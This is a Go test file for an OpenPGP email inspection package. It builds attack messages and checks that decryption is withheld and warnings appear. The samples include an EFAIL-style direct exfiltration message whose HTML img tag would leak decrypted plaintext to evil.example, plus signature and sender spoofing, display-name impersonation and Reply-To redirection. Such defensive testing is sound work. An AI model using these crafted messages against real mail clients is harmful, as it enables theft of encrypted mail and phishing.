package verdict

import (
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sealpost/sealpost/crypto"
)

// testNow is the clock of the self-built messages.
var testNow = time.Date(2026, 6, 1, 12, 0, 0, 0, time.UTC)

// testKeys are generated once per test binary.
type testKeys struct {
	alice, bob, eve *crypto.Key // secret keys
}

var (
	keysOnce sync.Once
	keys     testKeys
	keysErr  error
)

// people returns the generated keys of alice@example.org (the sender),
// bob@example.org (the reader) and eve@evil.example.
func people(t testing.TB) testKeys {
	t.Helper()
	keysOnce.Do(func() {
		gen := func(name string) *crypto.Key {
			if keysErr != nil {
				return nil
			}
			k, err := crypto.GenerateKey(crypto.GenerateOptions{Name: name, Email: strings.ToLower(name) + "@example.org",
				Now: testNow.Add(-time.Hour), Lifetime: -1})
			if err != nil {
				keysErr = fmt.Errorf("GenerateKey(%s): %w", name, err)
			}
			return k
		}
		keys = testKeys{alice: gen("Alice"), bob: gen("Bob"), eve: gen("Eve")}
	})
	if keysErr != nil {
		t.Fatal(keysErr)
	}
	return keys
}

// bobReads is what Bob's client passes to Inspect.
func bobReads(k testKeys) Options {
	return Options{Keys: []*crypto.Key{k.bob}, Verifiers: []*crypto.Key{k.alice.Public(), k.eve.Public()}, Now: testNow}
}

// crlf turns LF line ends into CRLF.
func crlf(s string) string { return strings.ReplaceAll(s, "\n", "\r\n") }

// encryptTo returns the armored OpenPGP message of plaintext for bob, signed
// by signer when it is not nil.
func encryptTo(t testing.TB, k testKeys, signer *crypto.Key, plaintext string) string {
	t.Helper()
	out, err := crypto.EncryptBytes([]byte(plaintext), crypto.EncryptOptions{
		Recipients: []*crypto.Key{k.bob.Public()}, Signer: signer, Now: testNow, Armor: true,
	})
	if err != nil {
		t.Fatalf("EncryptBytes: %v", err)
	}
	return string(out)
}

// pgpMIME wraps an armored message in an RFC 3156 multipart/encrypted part
// (header and body) with the given extra Content-Type parameters.
func pgpMIME(armored, boundary string) string {
	return "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"" + boundary + "\"\n\n" +
		"--" + boundary + "\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n" +
		"--" + boundary + "\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\n\n" + armored + "\n" +
		"--" + boundary + "--\n"
}

// signedPart returns a multipart/signed part over body (a MIME part with its
// header) signed by signer.
func signedPart(t testing.TB, signer *crypto.Key, body, boundary string) string {
	t.Helper()
	sig, err := crypto.SignDetached(strings.NewReader(crlf(body)), signer, true, testNow)
	if err != nil {
		t.Fatalf("SignDetached: %v", err)
	}
	return "Content-Type: multipart/signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\"; boundary=\"" + boundary + "\"\n\n" +
		"--" + boundary + "\n" + body + "\n--" + boundary + "\nContent-Type: application/pgp-signature\n\n" + string(sig) + "\n--" + boundary + "--\n"
}

// header is a plain message header for the tests, with the given From.
func header(from, subject string) string {
	return "From: " + from + "\nTo: bob@example.org\nSubject: " + subject + "\nDate: Mon, 01 Jun 2026 12:00:00 +0000\nMIME-Version: 1.0\n"
}

func TestAttacks(t *testing.T) {
	k := people(t)
	const secret = "the launch code is 0000"
	inner := "Content-Type: text/plain; charset=utf-8\n\n" + secret + "\n"
	stolen := encryptTo(t, k, nil, inner)
	tests := []struct {
		name    string
		msg     string
		enc     bool
		sig     crypto.SignatureStatus
		match   bool
		covers  bool
		subject string
		from    string
		body    string // BodyText contains this
		absent  string // BodyText does not contain this
		warn    string // a warning contains this ("" means: no warning)
	}{
		{
			name: "efail direct exfiltration: ciphertext between HTML parts",
			msg: header("Alice <alice@example.org>", "hi") + "Content-Type: multipart/mixed; boundary=X\n\n" +
				"--X\nContent-Type: text/html\n\n<img src=\"http://evil.example/?\n" +
				"--X\n" + pgpMIME(stolen, "E") +
				"--X\nContent-Type: text/html\n\n\">\n--X--\n",
			sig: crypto.SigNone, absent: secret, warn: "not decrypted",
		},
		{
			name: "covert content: encrypted part after attacker text",
			msg: header("Alice <alice@example.org>", "hi") + "Content-Type: multipart/mixed; boundary=X\n\n" +
				"--X\nContent-Type: text/plain\n\nPlease reply with a quote.\n" +
				"--X\n" + pgpMIME(stolen, "E") + "--X--\n",
			sig: crypto.SigNone, body: "Please reply", absent: secret, warn: "not decrypted",
		},
		{
			name: "stolen inline ciphertext inside attacker text",
			msg:  header("Alice <alice@example.org>", "hi") + "Content-Type: text/plain\n\nLook:\n" + stolen + "\nbye\n",
			sig:  crypto.SigNone, body: "Look:", absent: secret, warn: "not decrypted automatically",
		},
		{
			name: "stolen ciphertext as an attachment",
			msg: header("Alice <alice@example.org>", "hi") + "Content-Type: multipart/mixed; boundary=X\n\n" +
				"--X\nContent-Type: text/plain\n\nsee attachment\n--X\nContent-Type: application/octet-stream\n" +
				"Content-Disposition: attachment; filename=\"msg.asc\"\n\n" + stolen + "\n--X--\n",
			sig: crypto.SigNone, body: "see attachment", absent: secret, warn: "holds an encrypted OpenPGP message",
		},
		{
			name: "encrypted root is shown",
			msg:  header("Alice <alice@example.org>", "hi") + pgpMIME(stolen, "E"),
			enc:  true, sig: crypto.SigNone, body: secret,
		},
		{
			name: "signed by someone else than From",
			msg:  header("Alice <alice@example.org>", "hi") + signedPart(t, k.eve, "Content-Type: text/plain\n\npay Eve", "S"),
			sig:  crypto.SigValid, covers: true, body: "pay Eve", warn: "signed, but not by the sender",
		},
		{
			name: "signed by the sender",
			msg:  header("Alice <alice@example.org>", "hi") + signedPart(t, k.alice, "Content-Type: text/plain\n\nhello", "S"),
			sig:  crypto.SigValid, match: true, covers: true, body: "hello",
		},
		{
			name: "signed part beside an unsigned one",
			msg: header("Alice <alice@example.org>", "hi") + "Content-Type: multipart/mixed; boundary=X\n\n--X\n" +
				signedPart(t, k.alice, "Content-Type: text/plain\n\nsigned text", "S") +
				"--X\nContent-Type: text/plain\n\nYou are fired.\n--X--\n",
			sig: crypto.SigValid, match: true, body: "You are fired.", warn: "only part of this message is signed",
		},
		{
			name: "signature inside a forwarded message",
			msg: header("Eve <eve@example.org>", "fwd") + "Content-Type: multipart/mixed; boundary=X\n\n" +
				"--X\nContent-Type: text/plain\n\nsee below\n--X\nContent-Type: message/rfc822\n\n" +
				header("Alice <alice@example.org>", "orig") + signedPart(t, k.alice, "Content-Type: text/plain\n\nhello", "S") +
				"--X--\n",
			sig: crypto.SigNone, body: "see below", absent: "hello",
		},
		{
			name: "content changed after signing",
			msg: header("Alice <alice@example.org>", "hi") + strings.Replace(
				signedPart(t, k.alice, "Content-Type: text/plain\n\npay 10 EUR", "S"), "pay 10 EUR", "pay 99 EUR", 1),
			sig: crypto.SigInvalid, covers: true, body: "pay 99", warn: "not valid",
		},
		{
			name: "signed and encrypted, but a different outer From",
			msg: header("Eve <eve@example.org>", "hi") + pgpMIME(encryptTo(t, k, k.alice,
				"Content-Type: text/plain; protected-headers=\"v1\"\nFrom: Alice <alice@example.org>\nSubject: real\n\nhello\n"), "E"),
			enc: true, sig: crypto.SigValid, covers: true, subject: "real", from: "Alice <alice@example.org>",
			body: "hello", warn: "signed, but not by the sender",
		},
		{
			name: "display name holds another address",
			msg:  header("\"alice@bank.example\" <eve@evil.example>", "hi") + "Content-Type: text/plain\n\nhi\n",
			sig:  crypto.SigNone, body: "hi", warn: "display name contains the address alice@bank.example",
		},
		{
			name: "display name imitates a lock",
			msg:  header("=?utf-8?q?=F0=9F=94=92_Alice?= <eve@evil.example>", "hi") + "Content-Type: text/plain\n\nhi\n",
			sig:  crypto.SigNone, body: "hi", warn: "imitates a security indicator",
		},
		{
			name: "display name claims verification",
			msg:  header("\"Alice [Verified]\" <eve@evil.example>", "hi") + "Content-Type: text/plain\n\nhi\n",
			sig:  crypto.SigNone, body: "hi", warn: "imitates a security indicator",
		},
		{
			name: "reply-to elsewhere",
			msg:  header("Alice <alice@example.org>", "hi") + "Reply-To: eve@evil.example\nContent-Type: text/plain\n\nhi\n",
			sig:  crypto.SigNone, body: "hi", warn: "replies go to eve@evil.example",
		},
		{
			name: "several senders",
			msg:  "From: Alice <alice@example.org>, Eve <eve@evil.example>\nSubject: hi\nContent-Type: text/plain\n\nhi\n",
			sig:  crypto.SigNone, from: "Alice <alice@example.org>", body: "hi", warn: "names 2 senders",
		},
		{
			name: "html reduced to text",
			msg: header("Alice <alice@example.org>", "hi") + "Content-Type: text/html\n\n<html><head><style>p{}</style>" +
				"<script>alert(1)</script></head><body><p>Hello &amp; welcome</p><img src=\"http://track.example/x.png\"></body></html>\n",
			sig: crypto.SigNone, body: "Hello & welcome", absent: "track.example",
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r, err := Inspect([]byte(tc.msg), bobReads(k))
			if err != nil {
				t.Fatalf("Inspect error = %v, want nil", err)
			}
			if r.Encrypted != tc.enc {
				t.Errorf("Encrypted = %v, want %v", r.Encrypted, tc.enc)
			}
			s := r.Signature
			if s.Status != tc.sig || s.SignerMatchesFrom != tc.match || s.CoversWholeMessage != tc.covers {
				t.Errorf("Signature = %s, matches From %v, covers %v, want %s, %v, %v",
					s.Status, s.SignerMatchesFrom, s.CoversWholeMessage, tc.sig, tc.match, tc.covers)
			}
			if tc.subject != "" && r.Subject != tc.subject {
				t.Errorf("Subject = %q, want %q", r.Subject, tc.subject)
			}
			if tc.from != "" && r.From != tc.from {
				t.Errorf("From = %q, want %q", r.From, tc.from)
			}
			if !strings.Contains(r.BodyText, tc.body) {
				t.Errorf("BodyText = %q, want it to contain %q", r.BodyText, tc.body)
			}
			if tc.absent != "" && strings.Contains(r.BodyText, tc.absent) {
				t.Errorf("BodyText = %q, must not contain %q", r.BodyText, tc.absent)
			}
			if tc.warn == "" && len(r.Warnings) != 0 {
				t.Errorf("Warnings = %q, want none", r.Warnings)
			}
			if tc.warn != "" && !containsWarning(r.Warnings, tc.warn) {
				t.Errorf("Warnings = %q, want one containing %q", r.Warnings, tc.warn)
			}
		})
	}
}
